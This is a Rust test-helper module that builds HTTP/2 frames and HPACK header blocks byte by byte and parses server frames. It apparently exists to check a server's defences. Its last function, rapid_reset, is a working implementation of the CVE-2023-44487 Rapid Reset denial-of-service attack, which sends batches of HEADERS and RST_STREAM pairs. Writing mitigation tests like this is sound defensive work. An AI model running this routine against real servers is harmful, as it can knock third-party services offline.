//! Hand-made HTTP/2: frames and HPACK literals written byte for byte, so a
//! test says exactly what it sends, and a reader for what comes back.

use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

/// Frame types (RFC 9113 §6).
pub const DATA: u8 = 0x0;
pub const HEADERS: u8 = 0x1;
pub const RST_STREAM: u8 = 0x3;
pub const SETTINGS: u8 = 0x4;
pub const PING: u8 = 0x6;
pub const GOAWAY: u8 = 0x7;
pub const WINDOW_UPDATE: u8 = 0x8;
pub const CONTINUATION: u8 = 0x9;

/// Flags.
pub const END_STREAM: u8 = 0x1;
pub const ACK: u8 = 0x1;
pub const END_HEADERS: u8 = 0x4;

/// Error codes (RFC 9113 §7).
pub const PROTOCOL_ERROR: u32 = 0x1;
pub const CANCEL: u32 = 0x8;
pub const COMPRESSION_ERROR: u32 = 0x9;
pub const ENHANCE_YOUR_CALM: u32 = 0xb;

/// The client connection preface and an empty SETTINGS frame.
pub fn preface() -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(frame(SETTINGS, 0, 0, &[]));
    out
}

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// An HPACK literal header field without indexing, new name, no Huffman.
pub fn hpack_literal(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    out.push(0x00);
    hpack_string(out, name);
    hpack_string(out, value);
}

pub fn hpack_string(out: &mut Vec<u8>, s: &[u8]) {
    // 7-bit prefix integer (RFC 7541 §5.1), Huffman bit clear.
    let mut n = s.len();
    if n < 127 {
        out.push(n as u8);
    } else {
        out.push(127);
        n -= 127;
        while n >= 128 {
            out.push((n % 128 + 128) as u8);
            n /= 128;
        }
        out.push(n as u8);
    }
    out.extend_from_slice(s);
}

/// A header block of literals.
pub fn block(headers: &[(&str, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (n, v) in headers {
        hpack_literal(&mut out, n.as_bytes(), v.as_bytes());
    }
    out
}

/// One frame read back.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    pub kind: u8,
    pub flags: u8,
    pub stream: u32,
    pub payload: Vec<u8>,
}

impl Frame {
    /// The error code of a GOAWAY frame.
    pub fn goaway_code(&self) -> Option<u32> {
        (self.kind == GOAWAY && self.payload.len() >= 8).then(|| {
            u32::from_be_bytes([
                self.payload[4],
                self.payload[5],
                self.payload[6],
                self.payload[7],
            ])
        })
    }

    /// The last stream id a GOAWAY frame says the server processed.
    pub fn goaway_last_stream(&self) -> Option<u32> {
        (self.kind == GOAWAY && self.payload.len() >= 8).then(|| {
            u32::from_be_bytes([
                self.payload[0],
                self.payload[1],
                self.payload[2],
                self.payload[3],
            ]) & 0x7fff_ffff
        })
    }
}

/// Splits whole frames off the front of `buf`, leaving a partial one.
pub fn take_frames(buf: &mut Vec<u8>) -> Vec<Frame> {
    let mut frames = Vec::new();
    let mut at = 0;
    while buf.len() >= at + 9 {
        let b = &buf[at..];
        let len = (usize::from(b[0]) << 16) | (usize::from(b[1]) << 8) | usize::from(b[2]);
        if b.len() < 9 + len {
            break;
        }
        frames.push(Frame {
            kind: b[3],
            flags: b[4],
            stream: u32::from_be_bytes([b[5], b[6], b[7], b[8]]) & 0x7fff_ffff,
            payload: b[9..9 + len].to_vec(),
        });
        at += 9 + len;
    }
    buf.drain(..at);
    frames
}

/// Reads frames until the server closes the connection or `wait` passes;
/// returns the frames and whether the connection was closed.
pub async fn frames_until_closed<R: AsyncRead + Unpin>(
    rd: &mut R,
    wait: Duration,
) -> (Vec<Frame>, bool) {
    let deadline = tokio::time::Instant::now() + wait;
    let (mut buf, mut frames, mut chunk) = (Vec::new(), Vec::new(), vec![0u8; 16 * 1024]);
    loop {
        match tokio::time::timeout_at(deadline, rd.read(&mut chunk)).await {
            Err(_) => return (frames, false),
            Ok(Ok(0)) | Ok(Err(_)) => return (frames, true),
            Ok(Ok(n)) => {
                buf.extend_from_slice(&chunk[..n]);
                frames.extend(take_frames(&mut buf));
            }
        }
    }
}

/// What a rapid reset got back.
#[derive(Debug)]
pub struct RapidReset {
    /// The frames the server sent.
    pub frames: Vec<Frame>,
    /// Whether the server closed the connection (within 60 s).
    pub closed: bool,
    /// HEADERS + RST_STREAM pairs written before a write failed.
    pub sent: u32,
}

impl RapidReset {
    pub fn goaway(&self) -> Option<&Frame> {
        self.frames.iter().find(|f| f.kind == GOAWAY)
    }
}

/// CVE-2023-44487 on `io` (an h2 connection, preface not sent yet):
/// `streams` times a complete `GET path` on a new stream, cancelled at once
/// with RST_STREAM, written 100 pairs at a time.
pub async fn rapid_reset<IO>(io: IO, authority: &str, path: &str, streams: u32) -> RapidReset
where
    IO: AsyncRead + AsyncWrite + Send + 'static,
{
    let (mut rd, mut wr) = tokio::io::split(io);
    let watch =
        tokio::spawn(async move { frames_until_closed(&mut rd, Duration::from_secs(60)).await });
    let headers = block(&[
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", authority),
        (":path", path),
    ]);
    let mut sent = 0;
    if wr.write_all(&preface()).await.is_ok() {
        while sent < streams {
            let mut batch = Vec::new();
            for i in sent..sent + 100 {
                let id = 2 * i + 1;
                batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &headers));
                batch.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
            }
            if wr.write_all(&batch).await.is_err() || wr.flush().await.is_err() {
                break;
            }
            sent += 100;
        }
    }
    let (frames, closed) = watch.await.unwrap();
    RapidReset {
        frames,
        closed,
        sent,
    }
}
